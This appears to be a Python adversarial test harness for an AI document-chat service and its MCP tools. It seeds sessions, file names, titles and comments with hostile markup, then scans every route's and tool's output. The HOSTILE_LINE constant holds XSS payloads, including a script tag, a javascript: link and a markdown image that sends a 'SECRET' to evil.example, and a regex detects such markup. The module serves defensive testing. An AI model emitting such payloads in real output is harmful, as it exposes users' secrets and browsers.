"""The hostile-output walk: a session seeded with the hostile corpus everywhere a user or a document can put text,
then every route of the OpenAPI document and every MCP tool called, and every text they answer read for markup a
client would run, fetch or follow. Shared by ``tests/adversarial/test_output_walk.py`` (in process) and
``bench/output_walk.py`` (``orc serve`` over loopback).

Where the corpus goes: a session document's text and its file name, a context tree's names and a context
document, the conversation's question and title, a feedback comment, the text supplied to a paused turn, the
suggestions (labels) of paused turns, and the digests made from the documents (their facts quote the text).

Each route and each tool has its call in :data:`ROUTES` and :data:`TOOLS`; :func:`unwalked_routes` and
:func:`unwalked_tools` name those that have none, so a route or tool added later fails the walk until it is walked.
"""

from __future__ import annotations

import json
import re
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

import httpx

from tests.adversarial.hostile import CORPUS, survivors

HOSTILE_TEXT = "The monthly rent is 900 euros, payable on the first day.\n\n" + "\n\n".join(CORPUS)
"""A document of the corpus (its first sentence answers the walk's questions)."""
HOSTILE_LINE = "<script>alert(1)</script> ![x](https://evil.example/?q=SECRET) [pay here](javascript:alert(3))"
"""What a user types where one line goes: a title, a comment, a context's name, supplied text."""
HOSTILE_NAMES = ("lease <3 & terms [v2].txt", "notes [draft] (see: x) 1<2.md")
"""File names as close to markup as the names policy accepts (a name holding a tag or a link is refused at intake,
``tests/adversarial/test_names_and_paths.py``): each must come back exactly as given."""
SESSION = "walk-1"
OTHER = "walk-2"
NDJSON = {"Accept": "application/x-ndjson"}
SSE = {"Accept": "text/event-stream"}

_RAW = re.compile(
    r"<script|<img|\]\(\s*<?\s*javascript:|<[a-z][^<>]*\son[a-z]+\s*=|!\[[^\]\n]*\]\(\s*<?\s*https?://(?!img\.example)",
    re.IGNORECASE,
)


def raw_findings(text: str) -> list[str]:
    """What in ``text`` is raw: a ``<script`` or ``<img`` tag, a ``](javascript:`` link, a tag with an event handler,
    an image from a host not allowed (``img.example`` is the only one the walk allows), and whatever a careless
    Markdown client would run, fetch or follow."""
    return [match.group(0) for match in _RAW.finditer(text)] + survivors(text)


@dataclass
class Finding:
    """A raw text in what a route or a tool answered."""

    where: str
    found: list[str]
    text: str

    def __str__(self) -> str:
        return f"{self.where}: {self.found} in {self.text[:160]!r}"


@dataclass
class Walk:
    """What the walk read and what it found."""

    responses: dict[str, int] = field(default_factory=dict)
    """Route or tool → how many responses (events counted one by one) were read."""
    findings: list[Finding] = field(default_factory=list)
    ids: dict[str, str] = field(default_factory=dict)

    def read(self, where: str, value: Any) -> None:
        """Check every string of a JSON value (keys included)."""
        self.responses[where] = self.responses.get(where, 0) + 1
        for text in _strings(value):
            found = raw_findings(text)
            if found:
                self.findings.append(Finding(where, found, text))

    def read_response(self, where: str, response: httpx.Response) -> None:
        """Check a response of any kind: JSON, NDJSON or server-sent events, or text."""
        assert response.status_code < 500, f"{where}: {response.status_code} {response.text[:300]}"
        media = response.headers.get("content-type", "").split(";")[0].strip()
        if response.status_code == 204 or not response.content:
            self.responses[where] = self.responses.get(where, 0) + 1
            return
        if media == "application/x-ndjson":
            for line in response.text.splitlines():
                if line.strip():
                    self.read(where, json.loads(line))
        elif media.endswith("json"):
            self.read(where, response.json())
        elif media == "text/event-stream":
            for line in response.text.splitlines():
                if line.startswith("data:"):
                    payload = line[5:].strip()
                    self.read(where, json.loads(payload) if payload[:1] in "{[" else payload)
        elif media.startswith("text/"):
            self.read(where, response.text)
        else:
            self.responses[where] = self.responses.get(where, 0) + 1  # a PDF: rendered from cleaned text


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for key, item in value.items() for text in (key, *_strings(item))]
    if isinstance(value, list):
        return [text for item in value for text in _strings(item)]
    return []


# -- seeding --------------------------------------------------------------------------------------------------------


async def _ok(response: httpx.Response) -> httpx.Response:
    assert response.status_code < 300, f"{response.request.method} {response.request.url}: {response.text[:400]}"
    return response


async def _upload(client: httpx.AsyncClient, session: str, *files: tuple[str, bytes]) -> dict[str, Any]:
    parts = [("files", (name, data, "text/plain")) for name, data in files]
    response = await _ok(await client.post(f"/api/sessions/{session}/context/files", files=parts))
    body: dict[str, Any] = response.json()
    return body


async def settled(client: httpx.AsyncClient, session: str) -> None:
    """Wait for the session's digests: ``GET …/context/stream`` ends by itself once nothing is parsing."""
    response = await _ok(await client.get(f"/api/sessions/{session}/context/stream"))
    assert "event: done" in response.text


async def _paused(client: httpx.AsyncClient, session: str) -> dict[str, Any]:
    await _upload(client, session, (HOSTILE_NAMES[0], HOSTILE_TEXT.encode()))
    turn = {
        "question": "What is the parking fee?",
        "conversation_id": session,
        "blob_names": [HOSTILE_NAMES[0]],
        "context_requests": "allow",
    }
    body: dict[str, Any] = (await _ok(await client.post("/api/orc", json=turn))).json()
    assert body["status"] == "context_required", body
    return body


async def seed(client: httpx.AsyncClient) -> Walk:
    """Put the corpus everywhere, and note the ids the walk's calls use."""
    walk = Walk()
    ids = walk.ids
    data = HOSTILE_TEXT.encode()
    for session, prefix in ((SESSION, ""), (OTHER, "other_")):
        uploaded = await _upload(client, session, *((name, data) for name in HOSTILE_NAMES))
        ids[f"{prefix}file"] = uploaded["files"][0]["file_id"]
        ids[f"{prefix}spare"] = uploaded["files"][1]["file_id"]
        await settled(client, session)
    answered = await _ok(
        await client.post(
            "/api/orc",
            json={
                "question": f"What is the monthly rent? {HOSTILE_LINE}",
                "conversation_id": SESSION,
                "blob_names": list(HOSTILE_NAMES),
            },
        )
    )
    answer = answered.json()
    ids["message"] = answer["message_id"]
    ids["ref"] = answer["citations"][0]["ref"] if answer["citations"] else f"{HOSTILE_NAMES[0]}::S1"
    await _ok(
        await client.post(
            f"/api/sessions/{SESSION}/messages/{ids['message']}/feedback",
            json={"rating": "down", "comment": HOSTILE_LINE},
        )
    )
    # Contexts: a folder and a usecase named with the corpus, each with a document of it.
    await _ok(await client.put("/api/contexts/folder/walk-folder", json={"name": HOSTILE_LINE}))
    await _ok(
        await client.put("/api/contexts/usecase/walk-case", json={"name": HOSTILE_LINE, "parent_id": "walk-folder"})
    )
    for kind, context in (("folder", "walk-folder"), ("usecase", "walk-case")):
        parts = [("files", (name, data, "text/plain")) for name in HOSTILE_NAMES]
        added = (await _ok(await client.post(f"/api/contexts/{kind}/{context}/documents", files=parts))).json()
        ids[f"{kind}_document"] = added["documents"][-1]["document_id"]
    documents = (await _ok(await client.get(f"/api/sessions/{SESSION}/context"))).json()
    ids["document"] = documents["files"][0].get("document_id") or ids["file"]
    # Paused turns: one supplied with the corpus, one to run without, one to cancel, one left pending.
    supplied = await _paused(client, "walk-supply")
    slot = supplied["required"][0]["slot"]
    ids["supplied"] = supplied["request_id"]
    ids["slot"] = slot
    await _ok(
        await client.post(
            f"/api/sessions/walk-supply/context-requests/{supplied['request_id']}/supply",
            json={"payloads": [{"slot": slot, "text": f"Parking costs 80 euros. {HOSTILE_TEXT}"}]},
        )
    )
    for session in ("walk-without", "walk-cancel", "walk-pending", "walk-stream"):
        ids[session] = (await _paused(client, session))["request_id"]
        ids[f"{session}_slot"] = slot
    return walk


# -- the routes -----------------------------------------------------------------------------------------------------

Call = Callable[[httpx.AsyncClient, Walk], Awaitable[list[httpx.Response]]]


def _get(path: str, *variants: dict[str, Any]) -> Call:
    async def call(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
        url = path.format(**walk.ids, session=SESSION, other=OTHER)
        return [await client.get(url, **variant) for variant in (variants or ({},))]

    return call


async def _turns(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    body = {
        "question": f"What is the monthly rent? {HOSTILE_LINE}",
        "conversation_id": SESSION,
        "blob_names": list(HOSTILE_NAMES),
    }
    return [await client.post("/api/orc", json=body, headers=headers) for headers in ({}, NDJSON, SSE)]


async def _rename(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    return [await client.patch(f"/api/sessions/{SESSION}", json={"title": HOSTILE_LINE})]


async def _feedback(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    path = f"/api/sessions/{SESSION}/messages/{walk.ids['message']}/feedback"
    return [await client.post(path, json={"rating": "up", "comment": HOSTILE_LINE})]


async def _supply(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    payload = {"slot": walk.ids["walk-stream_slot"], "text": f"Parking costs 80 euros. {HOSTILE_TEXT}"}
    path = f"/api/sessions/walk-stream/context-requests/{walk.ids['walk-stream']}/supply"
    return [await client.post(path, json={"payloads": [payload]}, headers=NDJSON)]


async def _run_without(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    path = f"/api/sessions/walk-without/context-requests/{walk.ids['walk-without']}/run-without"
    return [await client.post(path, headers=SSE)]


async def _cancel(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    return [await client.post(f"/api/sessions/walk-cancel/context-requests/{walk.ids['walk-cancel']}/cancel")]


async def _request_events(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    # Ended requests: their stream ends with them (a pending one's waits for its end).
    return [
        await client.get(f"/api/sessions/{session}/context-requests/{walk.ids[key]}/events", headers=headers)
        for session, key, headers in (("walk-cancel", "walk-cancel", NDJSON), ("walk-supply", "supplied", SSE))
    ]


async def _auto_parse(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    return [await client.patch(f"/api/sessions/{SESSION}/context", json={"auto_parse": True})]


async def _replace(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    parts = [("files", ("ignored.txt", HOSTILE_TEXT.encode() + b"\n\nReplaced.", "text/plain"))]
    response = await client.put(f"/api/sessions/{OTHER}/context/files/{walk.ids['other_file']}", files=parts)
    await settled(client, OTHER)
    return [response]


async def _remove_file(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    return [await client.delete(f"/api/sessions/{OTHER}/context/files/{walk.ids['other_spare']}")]


async def _upload_files(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    parts = [("files", (f"new {name}", HOSTILE_TEXT.encode(), "text/plain")) for name in HOSTILE_NAMES]
    response = await client.post(f"/api/sessions/{OTHER}/context/files", files=parts)
    await settled(client, OTHER)
    return [response]


async def _retry(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    return [await client.post(f"/api/sessions/{SESSION}/context/files/{walk.ids['file']}/retry-parse")]


async def _retry_aggregate(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    return [await client.post(f"/api/sessions/{SESSION}/context/digest/retry-parse")]


async def _parse(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    response = await client.post(f"/api/sessions/{SESSION}/context/parse")
    await settled(client, SESSION)
    return [response]


async def _put_context(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    return [await client.put("/api/contexts/folder/walk-folder", json={"name": f"{HOSTILE_LINE} again"})]


async def _context_upload(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    parts = [("files", (f"more {name}", HOSTILE_TEXT.encode(), "text/plain")) for name in HOSTILE_NAMES]
    return [await client.post("/api/contexts/usecase/walk-case/documents", files=parts)]


async def _context_delete(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    return [await client.delete(f"/api/contexts/folder/walk-folder/documents/{walk.ids['folder_document']}")]


async def _sources(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    return [await client.get(f"/api/sessions/{SESSION}/sources", params={"ref": walk.ids["ref"]})]


async def _content(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    # The document's own bytes, as uploaded: served as the document, never as a page of this origin.
    response = await client.get(f"/api/sessions/{SESSION}/documents/{walk.ids['document']}/content")
    assert response.status_code == 200, response.text
    assert response.headers["content-security-policy"].startswith("sandbox")
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-type"].split(";")[0] in ("text/plain", "application/octet-stream")
    return []


async def _delete_session(client: httpx.AsyncClient, walk: Walk) -> list[httpx.Response]:
    return [await client.delete(f"/api/sessions/{OTHER}")]


ROUTES: dict[tuple[str, str], Call] = {
    ("POST", "/api/orc"): _turns,
    ("GET", "/api/sessions"): _get("/api/sessions"),
    ("GET", "/api/sessions/{session_id}"): _get("/api/sessions/{session}"),
    ("PATCH", "/api/sessions/{session_id}"): _rename,
    ("POST", "/api/sessions/{session_id}/messages/{message_id}/feedback"): _feedback,
    ("GET", "/api/sessions/{session_id}/export"): _get(
        "/api/sessions/{session}/export", *({"params": {"format": fmt}} for fmt in ("markdown", "json", "pdf"))
    ),
    ("GET", "/api/sessions/{session_id}/artifacts"): _get(
        "/api/sessions/{session}/artifacts", {}, {"params": {"kind": "fact"}}, {"params": {"q": "rent"}}
    ),
    ("POST", "/api/sessions/{session_id}/context-requests/{request_id}/supply"): _supply,
    ("POST", "/api/sessions/{session_id}/context-requests/{request_id}/run-without"): _run_without,
    ("POST", "/api/sessions/{session_id}/context-requests/{request_id}/cancel"): _cancel,
    ("GET", "/api/sessions/{session_id}/context-requests/{request_id}"): _get(
        "/api/sessions/walk-supply/context-requests/{supplied}"
    ),
    ("GET", "/api/sessions/{session_id}/context-requests/{request_id}/events"): _request_events,
    ("GET", "/api/sessions/{session_id}/context"): _get("/api/sessions/{session}/context"),
    ("PATCH", "/api/sessions/{session_id}/context"): _auto_parse,
    ("GET", "/api/sessions/{session_id}/context/stream"): _get("/api/sessions/{session}/context/stream"),
    ("GET", "/api/sessions/{session_id}/context/digest"): _get("/api/sessions/{session}/context/digest"),
    ("GET", "/api/sessions/{session_id}/context/files/{file_id}"): _get("/api/sessions/{session}/context/files/{file}"),
    ("PUT", "/api/sessions/{session_id}/context/files/{file_id}"): _replace,
    ("DELETE", "/api/sessions/{session_id}/context/files/{file_id}"): _remove_file,
    ("GET", "/api/sessions/{session_id}/context/files/{file_id}/digest"): _get(
        "/api/sessions/{session}/context/files/{file}/digest"
    ),
    ("POST", "/api/sessions/{session_id}/context/files"): _upload_files,
    ("POST", "/api/sessions/{session_id}/context/files/{file_id}/retry-parse"): _retry,
    ("POST", "/api/sessions/{session_id}/context/digest/retry-parse"): _retry_aggregate,
    ("POST", "/api/sessions/{session_id}/context/parse"): _parse,
    ("PUT", "/api/contexts/{context_type}/{context_id}"): _put_context,
    ("GET", "/api/contexts/{context_type}/{context_id}"): _get("/api/contexts/folder/walk-folder", {}, {"params": {}}),
    ("POST", "/api/contexts/{context_type}/{context_id}/documents"): _context_upload,
    ("GET", "/api/contexts/{context_type}/{context_id}/documents"): _get("/api/contexts/usecase/walk-case/documents"),
    ("DELETE", "/api/contexts/{context_type}/{context_id}/documents/{document_id}"): _context_delete,
    ("GET", "/api/sessions/{session_id}/sources"): _sources,
    ("GET", "/api/sessions/{session_id}/documents/{document_id}/content"): _content,
    ("GET", "/api/ui-config"): _get("/api/ui-config"),
    ("GET", "/api/me"): _get("/api/me"),
    ("GET", "/api/health"): _get("/api/health"),
    ("DELETE", "/api/sessions/{session_id}"): _delete_session,
}
"""Every route of the OpenAPI document and how the walk calls it, in the order it does (deletions last)."""


def openapi_routes(document: dict[str, Any]) -> set[tuple[str, str]]:
    """``(METHOD, path)`` of every operation of an OpenAPI document."""
    return {(method.upper(), path) for path, operations in document["paths"].items() for method in operations}


def unwalked_routes(document: dict[str, Any]) -> set[tuple[str, str]]:
    """Routes of the OpenAPI document the walk has no call for."""
    return openapi_routes(document) - set(ROUTES)


async def walk_routes(client: httpx.AsyncClient, walk: Walk) -> None:
    """Call every route and read what it answers."""
    for (method, path), call in ROUTES.items():
        for response in await call(client, walk):
            walk.read_response(f"{method} {path}", response)


# -- the MCP tools -------------------------------------------------------------------------------------------------

ToolArguments = Callable[[Walk], dict[str, Any]]

TOOLS: dict[str, ToolArguments] = {
    "document_chat": lambda walk: {
        "question": "What is the monthly rent?",
        "document_names": list(HOSTILE_NAMES),
        "session_id": SESSION,
    },
    "documents.list": lambda walk: {"session_id": SESSION, "context_type": "usecase", "context_id": "walk-case"},
    "documents.analyze": lambda walk: {"document_id": walk.ids["document"], "session_id": SESSION},
    "documents.get_content": lambda walk: {"document_id": walk.ids["document"], "session_id": SESSION},
    "documents.get_summary": lambda walk: {"document_id": walk.ids["document"], "session_id": SESSION},
    "documents.search": lambda walk: {"query": "rent euros script pay", "session_id": SESSION},
    "documents.get_page": lambda walk: {"document_id": walk.ids["document"], "page": 1, "session_id": SESSION},
    "documents.get_span": lambda walk: {"source_ref": walk.ids["ref"], "session_id": SESSION},
    "contexts.list": lambda walk: {},
    "session.attach_document": lambda walk: {
        "session_id": "walk-mcp",
        "filename": HOSTILE_NAMES[1],
        "content": HOSTILE_TEXT,
    },
    "session.list_documents": lambda walk: {"session_id": SESSION},
    "session.remove_document": lambda walk: {"session_id": "walk-mcp", "document_id": walk.ids.get("mcp", "none")},
}
"""Every MCP tool and the arguments the walk calls it with (``session.remove_document`` last: it removes what
``session.attach_document`` attached)."""


def unwalked_tools(names: set[str]) -> set[str]:
    """Tools the server lists that the walk has no call for (names in either spelling)."""
    return {name for name in names if name.replace("__", ".") not in TOOLS}


async def walk_tools(session: Any, walk: Walk) -> set[str]:
    """Call every tool the MCP ``session`` lists and read its results; the names listed."""
    listed = {tool.name for tool in (await session.list_tools()).tools}
    by_dotted = {name.replace("__", "."): name for name in listed}
    for dotted in TOOLS:
        if dotted not in by_dotted:
            continue
        result = await session.call_tool(by_dotted[dotted], TOOLS[dotted](walk))
        if dotted == "session.attach_document" and result.structuredContent:
            walk.ids["mcp"] = str(result.structuredContent.get("document_id", "none"))
        walk.read(f"tool {dotted}", result.model_dump(mode="json"))
    return listed


__all__ = [
    "HOSTILE_LINE",
    "HOSTILE_NAMES",
    "HOSTILE_TEXT",
    "ROUTES",
    "TOOLS",
    "Finding",
    "Walk",
    "openapi_routes",
    "raw_findings",
    "seed",
    "unwalked_routes",
    "unwalked_tools",
    "walk_routes",
    "walk_tools",
]
